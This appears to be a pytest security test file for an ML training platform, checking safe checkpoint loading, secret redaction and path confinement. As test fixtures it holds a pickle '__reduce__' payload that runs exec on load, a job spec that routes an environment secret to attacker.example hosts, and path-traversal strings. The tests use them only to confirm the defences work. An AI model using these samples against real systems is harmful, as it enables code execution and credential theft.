"""Nothing read from storage runs code: tampered checkpoints are refused (no marker file written)."""

from __future__ import annotations

import contextlib
import os
import socket
from pathlib import Path

import numpy as np
import pytest
import torch


class Payload:
    """A pickle that, when loaded with full unpickling, writes ``marker`` (what an attacker plants)."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return exec, (f"open({str(self.marker)!r}, 'w').write('pwned')",)


def plant(path: Path, marker: Path) -> None:
    torch.save({"model": {}, "client_state": {"epoch": 0}, "evil": Payload(marker)}, path)


def test_the_payload_runs_under_full_unpickling(tmp_path):
    """Control: the planted file really runs code when loaded the old way (weights_only=False)."""
    marker = tmp_path / "marker"
    plant(tmp_path / "ddp.pt", marker)
    torch.load(tmp_path / "ddp.pt", weights_only=False)
    assert marker.read_text() == "pwned"


def _ddp_strategy():
    """A DDPStrategy around a real model/optimiser/scheduler without a Ray Train session."""
    from tvr_platform.train.strategy import DDPStrategy, lr_lambda

    torch.manual_seed(0)
    module = torch.nn.Linear(3, 2)
    opt = torch.optim.AdamW(module.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.LambdaLR(opt, lr_lambda(1, 10))
    s = DDPStrategy.__new__(DDPStrategy)
    s.module = s.model = module
    s.optimizer, s.scheduler = opt, sched
    return s


def test_ddp_checkpoint_round_trips_and_a_tampered_one_is_refused(tmp_path):
    from tvr_platform.train.strategy import UnsafeCheckpointError

    s = _ddp_strategy()
    s.module(torch.randn(4, 3)).sum().backward()
    s.optimizer.step()
    s.scheduler.step()
    s.save(tmp_path, {"epoch": 3, "global_step": 7})
    restored = _ddp_strategy()
    assert restored.load(tmp_path) == {"epoch": 3, "global_step": 7}
    assert torch.equal(restored.module.weight, s.module.weight)
    assert restored.optimizer.state_dict()["state"][0]["exp_avg"].equal(s.optimizer.state_dict()["state"][0]["exp_avg"])

    marker = tmp_path / "marker"
    plant(tmp_path / "ddp.pt", marker)
    with pytest.raises(UnsafeCheckpointError, match="ddp.pt: refusing to load"):
        _ddp_strategy().load(tmp_path)
    assert not marker.exists()


def test_rng_state_file_is_loaded_safely(tmp_path):
    from tvr_platform.train.strategy import UnsafeCheckpointError, safe_load

    torch.save({"torch": torch.get_rng_state()}, tmp_path / "rng_rank0.pt")
    assert torch.equal(safe_load(tmp_path / "rng_rank0.pt")["torch"], torch.get_rng_state())
    marker = tmp_path / "marker"
    plant(tmp_path / "rng_rank1.pt", marker)
    with pytest.raises(UnsafeCheckpointError):
        safe_load(tmp_path / "rng_rank1.pt")
    assert not marker.exists()


@contextlib.contextmanager
def one_process_group(monkeypatch):
    """A one-rank gloo process group (what DeepSpeed needs), torn down afterwards."""
    import torch.distributed as dist

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    for k, v in {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": str(port), "RANK": "0",
                 "WORLD_SIZE": "1", "LOCAL_RANK": "0", "DS_ACCELERATOR": "cpu"}.items():
        monkeypatch.setenv(k, v)
    dist.init_process_group("gloo", rank=0, world_size=1)
    try:
        yield
    finally:
        dist.destroy_process_group()


@pytest.mark.timeout(300)
def test_deepspeed_checkpoint_round_trips_and_tampered_shards_are_refused(tmp_path, monkeypatch):
    """ZeRO-2 in one process: DeepSpeed's own load_checkpoint reads every file through safe_load
    (model states and ZeRO optimizer shards); a planted payload in either is refused."""
    import torch.distributed as dist

    from tvr_platform.config import TrainCfg
    from tvr_platform.train.strategy import (
        DeepSpeedStrategy,
        UnsafeCheckpointError,
        deepspeed_config,
        lr_lambda,
    )

    def build():
        torch.manual_seed(0)
        module = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.Linear(4, 2))
        opt = torch.optim.AdamW(module.parameters(), lr=1e-3)
        sched = torch.optim.lr_scheduler.LambdaLR(opt, lr_lambda(1, 10))
        return DeepSpeedStrategy(module, opt, sched, deepspeed_config(TrainCfg(zero_stage=2), 2, False))

    with one_process_group(monkeypatch):
        s = build()
        s.backward_step(s(torch.randn(2, 4)).sum())
        good = tmp_path / "good"
        s.save(good, {"epoch": 1, "global_step": 5})
        restored = build()
        assert restored.load(good)["global_step"] == 5
        for a, b in zip(restored.engine.module.parameters(), s.engine.module.parameters(), strict=True):
            assert torch.equal(a, b)
        files = sorted((good / "ds").glob("*.pt"))
        assert any("optim_states" in f.name for f in files) and any("model_states" in f.name for f in files)
        for victim in files:
            bad = tmp_path / f"bad-{victim.stem}"
            (bad / "ds").mkdir(parents=True)
            for f in files:
                os.link(f, bad / "ds" / f.name)
            (bad / "ds" / victim.name).unlink()
            marker = tmp_path / f"marker-{victim.stem}"
            plant(bad / "ds" / victim.name, marker)
            with pytest.raises(UnsafeCheckpointError, match="refusing to load"):
                build().load(bad)
            assert not marker.exists(), victim.name
    assert not dist.is_initialized()


# -- specs read back from the registry or run storage -----------------------------------------------

PLANTED = "planted-Secret-4c1d9e"


def _planted_spec(tmp_path: Path) -> Path:
    spec = tmp_path / "job.yaml"
    spec.write_text(
        "run:\n  name: 'eval-${oc.env:TVR_TEST_SECRET_KEY}'\n"
        "storage:\n  endpoint_url: http://attacker.example:9000\n  uri: s3://attacker-bucket/x\n"
        "tracking:\n  uri: 'http://u:${oc.env:TVR_TEST_SECRET_KEY}@attacker.example'\n"
        "data:\n  root: s3://attacker-bucket/${oc.env:TVR_TEST_SECRET_KEY}\n  batch_size: 5\n"
        "cluster:\n  address: ray://attacker.example:10001\n")
    return spec


def test_deepspeed_universal_checkpoints_are_refused(monkeypatch):
    """DeepSpeed's universal-checkpoint loaders call torch.load past safe_load: never enabled."""
    from tvr_platform.config import TrainCfg
    from tvr_platform.train.strategy import DeepSpeedStrategy, deepspeed_config

    monkeypatch.setenv("DS_ACCELERATOR", "cpu")
    cfg = {**deepspeed_config(TrainCfg(), micro_batch=2, bf16=False), "checkpoint": {"load_universal": True}}
    assert "checkpoint" not in deepspeed_config(TrainCfg(), micro_batch=2, bf16=False)
    with pytest.raises(ValueError, match="load_universal is not supported"):
        DeepSpeedStrategy(torch.nn.Linear(2, 2), None, None, cfg)


def test_stored_spec_runs_no_resolver_and_follows_no_place_it_names(tmp_path, monkeypatch):
    from tvr_platform.config import (
        flatten,
        job_from_dict,
        job_to_dict,
        job_to_yaml,
        load_job,
        load_stored_job,
    )

    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
    caller = load_job(None, [f"run.work_dir={tmp_path / 'mine'}"])
    lines: list[str] = []
    job = load_stored_job(_planted_spec(tmp_path), caller=caller, where="models:/m/1", report=lines.append)
    assert job.run.name == "eval-${oc.env:TVR_TEST_SECRET_KEY}"      # kept as text, never resolved
    assert job.data.batch_size == 5                                     # the model's own settings load
    for key in ("storage.endpoint_url", "storage.uri", "tracking.uri", "data.root", "cluster.address"):
        section, leaf = key.split(".")
        assert getattr(getattr(job, section), leaf) == getattr(getattr(caller, section), leaf), key
    assert job.tracking_uri == caller.tracking_uri and job.dataset_uri == caller.dataset_uri
    assert len(lines) == 1 and "models:/m/1" in lines[0] and "attacker.example:9000" in lines[0]
    assert "storage.endpoint_url" in lines[0] and "not followed" in lines[0]
    # what crosses a Ray boundary and reaches MLflow never resolves it either
    again = job_from_dict(job_to_dict(job))
    assert again.run.name == job.run.name
    assert PLANTED not in job_to_yaml(again) + repr(flatten(again)) + "".join(lines)


def test_stored_spec_overrides_still_apply(tmp_path, monkeypatch):
    from tvr_platform.config import load_stored_job

    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
    job = load_stored_job(_planted_spec(tmp_path), [f"run.work_dir={tmp_path}", "data.root=/data/mine",
                                                    "data.batch_size=7"], report=None)
    assert job.data.root == "/data/mine" and job.data.batch_size == 7 and job.storage.endpoint_url is None


def test_yaml_syntax_error_names_line_and_column(tmp_path):
    from tvr_platform.config import ConfigError, load_job

    spec = tmp_path / "bad.yaml"
    spec.write_text("run:\n  name: ok\ntrain:\n  lr: [1e-3\n  epochs: 2\n")
    with pytest.raises(ConfigError) as err:
        load_job(spec)
    msg = str(err.value)
    assert "\n" not in msg and msg.startswith(f"{spec}:5:") and "not valid YAML" in msg


def test_registered_model_is_code_not_a_pickle_and_holds_no_secret(tmp_path, monkeypatch):
    """The registry holds tvr's models-from-code file, weights and a redacted job.yaml: no
    cloudpickle, and loading the pyfunc runs tvr's installed code only."""
    import mlflow
    import yaml

    from tvr.backbone import ClipBackbone
    from tvr.methods import build_method
    from tvr_platform.config import load_job
    from tvr_platform.registry import MODEL_CODE, download_model, register_model
    from tvr_platform.tracking import start_run

    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
    job = load_job(None, [f"run.work_dir={tmp_path}", "model.backbone.name=tvr-tiny", "data.num_frames=2",
                          f"storage.endpoint_url=http://user:{PLANTED}@minio.example:9000"])
    method = build_method(job.model.method, job.method_cfg, ClipBackbone(job.model.backbone))
    torch.save(method.state_dict(), tmp_path / "model.pt")
    tracker = start_run(job)
    version = register_model(job, tmp_path / "model.pt", tracker.run_id, name="safe", metrics={"t2v_R1": 1.0})
    tracker.terminate()
    local = Path(mlflow.artifacts.download_artifacts(artifact_uri=f"models:/safe/{version}",
                                                     dst_path=str(tmp_path / "dl"), tracking_uri=job.tracking_uri))
    names = {p.name for p in local.rglob("*")}
    assert not any(n.endswith((".pkl", ".pickle", ".cloudpickle")) for n in names), names
    flavor = yaml.safe_load((local / "MLmodel").read_text())["flavors"]["python_function"]
    assert flavor.get("model_code_path") and "python_model" not in flavor
    code = next(p for p in local.rglob("*.py") if p.name == MODEL_CODE.name)
    assert code.read_text() == MODEL_CODE.read_text()     # tvr's own file, which imports the installed tvr
    blob = "".join(p.read_text(errors="ignore") for p in local.rglob("*") if p.is_file() and p.suffix != ".pt")
    assert PLANTED not in blob and "minio.example" in blob  # the job.yaml is there, redacted
    job_file, _ = download_model(f"models:/safe/{version}", job.tracking_uri)
    assert PLANTED not in job_file.read_text()
    model = mlflow.pyfunc.load_model(str(local))
    import pandas as pd

    out = model.predict(pd.DataFrame({"text": ["a red circle moves left", "two squares"]}))
    assert out.shape[0] == 2 and abs(float((out[0] ** 2).sum()) - 1.0) < 1e-4


# -- failures are one clear line; no run left RUNNING; nothing leaks -------------------------------

@pytest.mark.parametrize("override, needle", [
    ("train.cpus_per_worker=-1", "train.cpus_per_worker=-1.0 must be > 0"),
    ("train.lr=-0.1", "train.lr=-0.1 must be >= 0"),
    ("model.backbone.name=ViT-Nope-99", "model.backbone.name='ViT-Nope-99' is not an open_clip model"),
    ("run.name=it's", "run.name=\"it's\": use letters"),
])
def test_bad_values_are_one_line_naming_the_key(tmp_path, capsys, override, needle):
    from tvr_platform.cli import main

    assert main(["train", "jobs/quickstart.yaml", f"run.work_dir={tmp_path}", override]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and needle in err[0] and "Traceback" not in err[0], err


def test_an_unwritable_work_dir_is_one_line_naming_the_path(tmp_path, capsys):
    """(Root ignores file modes, so the unwritable place is a path under a regular file.)"""
    from tvr_platform.cli import main

    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    assert main(["train", "jobs/quickstart.yaml", f"run.work_dir={blocker / 'work'}"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and str(blocker) in err[0] and "Traceback" not in err[0], err


def test_more_training_cpus_than_the_cluster_has_is_one_line_before_the_run(monkeypatch):
    import ray

    from tvr_platform.cli import user_error
    from tvr_platform.config import load_job
    from tvr_platform.train.trainer import check_cpu_budget

    monkeypatch.setattr(ray, "cluster_resources", lambda: {"CPU": 2.0})
    ok = load_job(None, ["train.num_workers=2", "train.cpus_per_worker=0.5"])
    check_cpu_budget(ok)                                   # 1 of 2 CPUs left for decoding
    for workers, cpus in ((3, 1.0), (2, 1.0)):
        job = load_job(None, [f"train.num_workers={workers}", f"train.cpus_per_worker={cpus}"])
        with pytest.raises(ValueError) as err:
            check_cpu_budget(job)
        line = user_error(err.value)
        assert f"train.num_workers={workers}" in line and "of the cluster's 2 CPUs" in line and "\n" not in line


def test_worker_resources_are_custom_and_must_exist_in_the_cluster(monkeypatch):
    """cluster.worker_resources: CPU / GPU / memory and non-positive amounts are refused with the
    key; a custom resource the nodes do not advertise (enough units for every worker) is one line
    before training starts, not a run waiting forever for its placement group."""
    import ray

    from tvr_platform.cli import user_error
    from tvr_platform.config import ConfigError, load_job
    from tvr_platform.train.trainer import check_cpu_budget, worker_resources

    for bad, needle in (("{CPU: 1}", "worker_resources.CPU"), ("{tvr_worker: 0}", "worker_resources.tvr_worker=0")):
        with pytest.raises(ConfigError, match=needle):
            load_job(None, [f"cluster.worker_resources={bad}"])
    job = load_job(None, ["train.num_workers=2", "train.cpus_per_worker=0.5", "cluster.worker_resources={tvr_worker: 1}"])
    assert worker_resources(job) == {"CPU": 0.5, "tvr_worker": 1.0}
    monkeypatch.setattr(ray, "cluster_resources", lambda: {"CPU": 2.0, "tvr_worker": 2.0})
    check_cpu_budget(job)                                  # one unit per node, one worker per node
    monkeypatch.setattr(ray, "cluster_resources", lambda: {"CPU": 2.0, "tvr_worker": 1.0})
    with pytest.raises(ValueError) as err:
        check_cpu_budget(job)
    line = user_error(err.value)
    assert "cluster.worker_resources.tvr_worker=1 x train.num_workers=2" in line and "advertise 1" in line
    assert "\n" not in line


def test_yaml_error_through_the_cli_names_line_and_column(tmp_path, capsys):
    from tvr_platform.cli import main

    spec = tmp_path / "bad.yaml"
    spec.write_text("train:\n  lr: 1e-3\n  epochs: [2\n")
    assert main(["train", str(spec), f"run.work_dir={tmp_path}"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and f"{spec}:4:1: not valid YAML" in err[0], err


def test_a_failing_command_leaves_no_run_running_and_prints_no_secret(tmp_path, capsys, monkeypatch):
    """A user-fixable failure after the MLflow run started: one line, the run FAILED, and the
    planted credentials appear nowhere in stdout/stderr, the MLflow DB or the run's artifacts."""
    import argparse

    from mlflow.tracking import MlflowClient

    from tvr_platform import cli
    from tvr_platform.config import job_to_yaml, load_job
    from tvr_platform.tracking import start_run

    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
    job = load_job(None, [f"run.work_dir={tmp_path}", f"tracking.artifact_location={(tmp_path / 'art').as_uri()}",
                          f"storage.endpoint_url=http://user:pw-{PLANTED}@minio.example:9000",
                          f"data.root=s3://bucket/{PLANTED}"])
    state = {}

    def failing(args):
        tracker = start_run(job)
        state["run_id"] = tracker.run_id
        tracker.log_text(job_to_yaml(job), "config/job.yaml")
        tracker.set_tags({"tvr.dataset": job.dataset_uri})
        print(f"[tvr] reading {job.dataset_uri} via {job.storage.endpoint_url}")
        raise ValueError(f"{job.dataset_uri}: no MSRVTT_data.json; run `tvr data check`")

    args = argparse.Namespace(func=failing)
    with cli_streams():
        assert cli._run(args) == 2
    out = capsys.readouterr()
    ours = [line for line in out.err.splitlines() if line.startswith("tvr:")]   # (MLflow's own INFO lines aside)
    assert len(ours) == 1 and "no MSRVTT_data.json" in ours[0] and "Traceback" not in out.err
    assert PLANTED not in out.out + out.err and "minio.example" in out.out
    client = MlflowClient(job.tracking_uri)
    run = client.get_run(state["run_id"])
    assert run.info.status == "FAILED"
    stored = repr(run.data.params) + repr(run.data.tags)
    assert PLANTED not in stored and "pw-" not in stored
    assert PLANTED not in (tmp_path / "mlflow.db").read_bytes().decode("latin-1")
    for f in (tmp_path / "art").rglob("*"):
        if f.is_file():
            assert PLANTED.encode() not in f.read_bytes(), f


@contextlib.contextmanager
def cli_streams():
    from tvr_platform.redaction import redacted_output

    with redacted_output():
        yield


def test_redaction_by_value():
    from tvr_platform.redaction import redact, redact_text

    os.environ["TVR_TEST_API_TOKEN"] = PLANTED
    try:
        assert redact_text(f"see https://bob:hunter22@mlflow.example/x and {PLANTED}!") == \
            "see https://***@mlflow.example/x and ***!"
        assert redact({"cluster": {"env_vars": {"DB_PASSWORD": "x1", "MODE": f"a{PLANTED}"}}, "n": 3}) == \
            {"cluster": {"env_vars": {"DB_PASSWORD": "***", "MODE": "a***"}}, "n": 3}
        assert redact_text("TOKENIZERS_PARALLELISM=false s3://bucket/key") == "TOKENIZERS_PARALLELISM=false s3://bucket/key"
        # counts named *_tokens are not credentials (max_text_tokens=70 was masked everywhere)
        spec = {"model": {"excae": {"max_text_tokens": 70, "tokens_per_frame": 4}}, "hf_token": "hf_abcdefgh",
                "auth": {"Access_Token": "zzzzzzzz"}}
        assert redact(spec) == {"model": {"excae": {"max_text_tokens": 70, "tokens_per_frame": 4}},
                                "hf_token": "***", "auth": {"Access_Token": "***"}}
    finally:
        del os.environ["TVR_TEST_API_TOKEN"]


# -- manifest paths stay inside the data root ------------------------------------------------------

def test_paths_leaving_the_storage_root_are_refused_locally_and_on_s3(tmp_path):
    from tvr_platform.storage import OutsideRoot, escapes_root, open_storage

    assert escapes_root("../../outside/evil.mp4") and escapes_root("a/../../b") and escapes_root("..\\x")
    assert not escapes_root("a/../b.mp4") and not escapes_root("./v/1.mp4") and not escapes_root("/abs.mp4")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "evil.mp4").write_bytes(b"secret")
    local = open_storage(str(tmp_path / "data" / "videos"))
    s3 = open_storage("s3://bucket/data/videos", endpoint_url="http://127.0.0.1:1")
    for store in (local, s3):
        for call in (store.url, store.read_bytes, store.exists, store.arrow_path):
            with pytest.raises(OutsideRoot, match="leaves the storage root"):
                call("../../outside/evil.mp4")
    assert s3.url("v/1.mp4") == "s3://bucket/data/videos/v/1.mp4"


def test_decode_quarantines_an_out_of_root_clip_without_reading_it(tmp_path):
    from tvr_platform.data.decode import DecodeClips
    from tvr_platform.storage import open_storage

    videos = open_storage(str(tmp_path / "videos"))
    (tmp_path / "videos").mkdir()
    quarantine = open_storage(str(tmp_path / "q"))
    udf = DecodeClips(videos=videos, num_frames=2, size=8, train=False, seed=0, split="test",
                      quarantine=quarantine)
    udf._read = lambda rel: pytest.fail(f"read {rel}")     # noqa: ARG005 - must never be called
    out = udf({"file": np.array(["../../other-bucket/key.mp4"]), "video_index": np.array([0]),
               "seg_start": np.array([np.nan]), "seg_end": np.array([np.nan]), "epoch_seed": np.array([0])})
    assert out["frames"].shape == (1, 2, 8, 8, 3) and not out["frames"].any() and not out["valid"].any()
    import json

    records = [json.loads(line) for f in (tmp_path / "q").glob("*.jsonl") for line in f.read_text().splitlines()]
    assert len(records) == 1 and "outside the data root" in records[0]["action"]
    assert "leaves the storage root" in records[0]["reason"]


# -- the quarantine report is written -------------------------------------------------------------

def test_quarantine_report_lands_under_the_run_and_in_mlflow(tmp_path):
    import json

    from mlflow.tracking import MlflowClient

    from tvr.data.annotations import Manifest
    from tvr_platform.config import load_job
    from tvr_platform.data.pipeline import quarantine_uri
    from tvr_platform.storage import open_storage
    from tvr_platform.tracking import start_run
    from tvr_platform.train.trainer import report_quarantine

    job = load_job(None, [f"run.work_dir={tmp_path}", "run.name=q"])
    tracker = start_run(job)
    manifest = Manifest(dataset="msrvtt", split="train", video_ids=["v1"], video_files=["v1.mp4"], captions=["c"],
                        caption_video=[0], quarantine=[{"uri": "MSRVTT_data.json#v2", "reason": "empty caption"}])
    decoded = {"uri": "../../outside/evil.mp4", "reason": "leaves the storage root", "split": "train",
               "action": "skipped (outside the data root)"}
    open_storage(quarantine_uri(job, "train")).write_bytes("part-x.jsonl", (json.dumps(decoded) + "\n").encode())
    assert report_quarantine(job, tracker, manifest) == 2
    on_disk = [json.loads(x) for x in (Path(job.storage_uri) / "runs" / "q" / "quarantine.jsonl").read_text().splitlines()]
    assert {r["action"] for r in on_disk} == {"dropped", "skipped (outside the data root)"}
    client = MlflowClient(job.tracking_uri)
    local = client.download_artifacts(tracker.run_id, "quarantine.jsonl", str(tmp_path / "dl"))
    assert [json.loads(x) for x in Path(local).read_text().splitlines()] == on_disk
    assert client.get_run(tracker.run_id).data.metrics["data/quarantined"] == 2
    tracker.terminate()


def test_duplicate_video_ids_are_reported_not_merged_silently():
    from tvr.data.annotations import _Builder

    b = _Builder("msvd", "train", lambda v: f"{v}.avi")
    for vid, cap in (("a", "one"), ("b", "two"), ("a", "three")):
        b.video(vid, where="train_list.txt")
        b.caption(vid, cap, "raw-captions.pkl")
    m = b.build("train_list.txt")
    assert m.video_ids == ["a", "b"]
    assert [r for r in m.quarantine if r.get("action") == "merged"] == [
        {"uri": "train_list.txt#a", "action": "merged",
         "reason": "duplicate video id in the listing: its entries are merged into one video"}]


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_a_planted_secret_reaches_no_log_no_mlflow_and_no_artifact(tmp_path, capfd, monkeypatch):
    """A real (tiny, 2-worker) training run with credentials planted in storage.endpoint_url's
    userinfo and in a secret-looking environment variable: after it, the secret is nowhere in the
    MLflow DB, the artifacts, the run storage, Ray's session logs or the process's output."""
    import ray

    from tiny import tiny_overrides
    from tvr_platform.config import load_job
    from tvr_platform.recipes import ensure_synthetic
    from tvr_platform.redaction import redacted_output
    from tvr_platform.train.trainer import run_training

    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
    job = load_job(None, tiny_overrides(tmp_path, **{
        "train.epochs": 1, "run.name": "leak", "storage.endpoint_url": f"http://user:{PLANTED}@minio.example:9000"}))
    ensure_synthetic(job)
    with redacted_output():
        result = run_training(job)
        result.tracker.terminate()
    assert result.weights_path is not None
    out = capfd.readouterr()
    assert PLANTED not in out.out + out.err
    hits = [str(p) for p in tmp_path.rglob("*") if p.is_file() and PLANTED.encode() in p.read_bytes()]
    assert hits == [], hits            # MLflow DB, mlartifacts, run storage, exports, quarantine
    session = Path(ray._private.worker._global_node.get_session_dir_path())
    leaked = [str(p) for p in (session / "logs").rglob("*") if p.is_file() and PLANTED.encode() in p.read_bytes()]
    assert leaked == [], leaked
